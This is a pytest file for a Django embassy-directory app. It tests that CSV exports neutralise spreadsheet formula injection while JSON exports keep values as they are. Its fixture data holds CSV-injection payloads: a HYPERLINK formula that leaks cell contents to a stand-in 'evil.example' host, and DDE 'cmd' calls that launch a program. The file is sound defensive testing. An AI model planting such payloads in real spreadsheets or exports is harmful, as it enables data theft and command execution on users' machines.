"""Exported CSV never hands a spreadsheet a formula: a cell beginning with =, +, -, @, a tab or a
carriage return gets a single quote in front. JSON exports carry the data as it is."""

from __future__ import annotations

import csv
import io
import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from embassies.directory.exports import csv_cell
from embassies.directory.models import Mission
from tests.factories import make_mission

pytestmark = pytest.mark.django_db

URL = "/api/v1/exports/missions"
DANGEROUS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
def hostile() -> list[Mission]:
    """One mission per dangerous start, in its city and address (text an API edit or a Wikidata
    edit could set); the first also with a phone, an email and a position west and south."""
    missions = [
        make_mission(wikidata=f"Q{n}", city=text, address=text, website=text)
        for n, text in enumerate(DANGEROUS.values(), start=1)
    ]
    first = missions[0]
    first.phones, first.emails = ["+7 495 925-60-00"], [DANGEROUS["+"]]
    first.lat, first.lon = -33.86, -70.5
    first.save()
    return missions


def api_csv(client: Client) -> list[dict[str, str]]:
    response = client.get(f"{URL}.csv")
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def command_csv(tmp_path: Path) -> list[dict[str, str]]:
    target = tmp_path / "missions.csv"
    call_command("export", "--format", "csv", str(target), stdout=StringIO(), stderr=StringIO())
    with target.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("where", ["api", "command"])
def test_cells_beginning_with_a_formula_character_are_quoted(
    client: Client, tmp_path: Path, where: str
) -> None:
    rows = api_csv(client) if where == "api" else command_csv(tmp_path)
    for row, text in zip(rows, DANGEROUS.values(), strict=True):
        assert row["city"] == row["address"] == row["website"] == "'" + text
    first = rows[0]
    assert first["emails"] == "'" + DANGEROUS["+"]
    # A phone number begins with "+": a spreadsheet would compute it, so it is quoted too.
    assert first["phones"] == "'+74959256000"
    # Numbers are the site's own and a negative one is no formula: kept numeric.
    assert (first["lat"], first["lon"]) == ("-33.86", "-70.5")


def test_every_dangerous_start_is_neutralised() -> None:
    for text in DANGEROUS.values():
        assert csv_cell(text) == "'" + text
    assert csv_cell("Moscow") == "Moscow" and csv_cell(-70.5) == "-70.5" and csv_cell(None) == ""


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("fmt", ["jsonl", "geojson"])
def test_only_csv_quotes_them_json_keeps_the_values_as_they_are(client: Client, fmt: str) -> None:
    assert api_csv(client)[0]["city"] == "'" + DANGEROUS["="]
    response = client.get(f"{URL}.{fmt}")
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]
    if fmt == "jsonl":
        missions = [json.loads(line) for line in text.splitlines()]
    else:
        missions = [feature["properties"] for feature in json.loads(text)["features"]]
    for mission, value in zip(missions, DANGEROUS.values(), strict=True):
        assert mission["city"] == mission["address"] == mission["website"] == value
    assert missions[0]["emails"] == [DANGEROUS["+"]]
    assert missions[0]["phones"] == ["+74959256000"]
